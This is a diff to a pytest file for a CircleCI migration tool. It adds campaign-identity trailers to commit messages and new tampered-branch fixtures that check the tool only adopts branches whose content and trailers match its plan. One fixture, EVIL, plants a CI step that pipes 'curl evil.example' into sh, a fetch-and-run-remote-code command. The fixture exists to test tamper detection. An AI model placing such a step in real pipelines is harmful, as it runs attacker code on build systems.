@@ -10,6 +10,7 @@ from msgspec import Struct
 
 from cci_migrate.campaign.repository_plan import plan_repository
 from cci_migrate.findings import APPLY_ALL
+from cci_migrate.forges import campaign_identity
 from cci_migrate.forges.host import TRAILER
 from cci_migrate.policy.settings import Policy
 from tests.batch.git_server import GitServer
@@ -22,47 +23,62 @@ EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh"
 pytestmark = pytest.mark.usefixtures("clock")
 
 
-def message() -> str:
+def message(campaign: str) -> str:
     """What the tool itself would have written on the commit."""
     digest = plan_repository({CONFIG: PLAIN}, Policy(), APPLY_ALL, {}).digest
-    return f"Authenticate Docker registry pulls in CircleCI\n\n{TRAILER}: {digest}\n"
+    return (
+        f"Authenticate Docker registry pulls in CircleCI\n\n{TRAILER}: {digest}\n"
+        f"{campaign_identity.TRAILER}: {campaign}\n"
+    )
 
 
-def other_content(folder: Path) -> None:
-    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(), base="main")
+def other_content(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(campaign), base="main")
 
 
-def one_file_more(folder: Path) -> None:
-    commit_bare(folder, {CONFIG: FIXED, "more.sh": b"evil\n"}, BRANCH, message(), base="main")
+def one_file_more(folder: Path, campaign: str) -> None:
+    commit_bare(
+        folder, {CONFIG: FIXED, "more.sh": b"evil\n"}, BRANCH, message(campaign), base="main"
+    )
 
 
-def another_mode(folder: Path) -> None:
-    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main", mode="100755")
+def another_mode(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main", mode="100755")
 
 
-def one_commit_more(folder: Path) -> None:
-    commit_bare(folder, {"more.sh": b"evil\n"}, BRANCH, message(), base="main")
-    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message())
+def one_commit_more(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {"more.sh": b"evil\n"}, BRANCH, message(campaign), base="main")
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign))
 
 
-def unlike_parent(folder: Path) -> None:
+def unlike_parent(folder: Path, campaign: str) -> None:
     """The planned content, and a second commit that takes half of it back."""
-    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main")
-    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message())
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")
+    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(campaign))
 
 
-def on_an_orphan(folder: Path) -> None:
-    commit_bare(folder, {CONFIG: PLAIN, "more.sh": b"evil\n"}, BRANCH, message())
-    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message())
+def on_an_orphan(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {CONFIG: PLAIN, "more.sh": b"evil\n"}, BRANCH, message(campaign))
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign))
 
 
-def as_planned(folder: Path) -> None:
-    """Whoever made it and whatever the message is."""
+def by_hand(folder: Path, campaign: str) -> None:
+    """The planned content, by a person."""
+    del campaign
     commit_bare(folder, {CONFIG: FIXED}, BRANCH, "By hand", base="main")
 
 
-def as_planned_before_others(folder: Path) -> None:
-    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(), base="main")
+def of_another_campaign(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign[::-1]), base="main")
+
+
+def as_planned(folder: Path, campaign: str) -> None:
+    """By a run that was killed."""
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")
+
+
+def as_planned_before_others(folder: Path, campaign: str) -> None:
+    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")
     commit_bare(folder, {"README": b"later\n"})
 
 
@@ -75,6 +91,8 @@ PLANTED = {
         one_commit_more,
         unlike_parent,
         on_an_orphan,
+        by_hand,
+        of_another_campaign,
     )
 }
 OURS = {plant.__name__: plant for plant in (as_planned, as_planned_before_others)}
@@ -164,7 +182,7 @@ def test_a_branch_is_ours_only_if_its_content_is(
     place: Place, tmp_path: Path, batch: Batch
 ) -> None:
     for name, plant in {**PLANTED, **OURS, "proposed": other_content}.items():
-        plant(place.folders[name])
+        plant(place.folders[name], batch.id())
     place.propose("proposed")
     if "--local" in place.options:
         for name in place.folders:
@@ -210,7 +228,9 @@ def test_no_reversal_goes_out_from_a_planted_branch(
         batch("apply", "--seconds-between", 0)
         git(repository.folder, "update-ref", "refs/heads/main", f"refs/heads/{BRANCH}")
         back = f"revert-1-{BRANCH}"
-        planted = commit_bare(repository.folder, {CONFIG: EVIL}, back, message(), base="main")
+        planted = commit_bare(
+            repository.folder, {CONFIG: EVIL}, back, message(batch.id()), base="main"
+        )
         if isinstance(repository.pulls[0], Pull):
             repository.pulls[0].state = "MERGED"
             repository.pulls.append(Pull(2, repository, back, "main", "", "", False))
